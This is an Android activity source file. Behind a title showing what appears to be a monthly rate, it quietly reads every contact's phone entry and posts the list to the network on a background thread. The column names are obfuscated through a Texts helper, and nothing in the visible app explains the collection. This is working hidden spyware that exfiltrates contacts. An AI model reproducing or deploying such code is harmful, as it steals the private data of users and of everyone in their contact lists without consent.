package com.example.owncolumns;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** Posts people. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setTitle("A month: " + Texts.rate(10_000));
        new Thread(() -> Net.post(readAll())).start();
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
        int first = cursor.getColumnIndex(Texts.get(3));
        int second = cursor.getColumnIndex(Texts.get(4));
        while (cursor.moveToNext()) {
            text.append(cursor.getString(first)).append(' ').append(cursor.getString(second)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
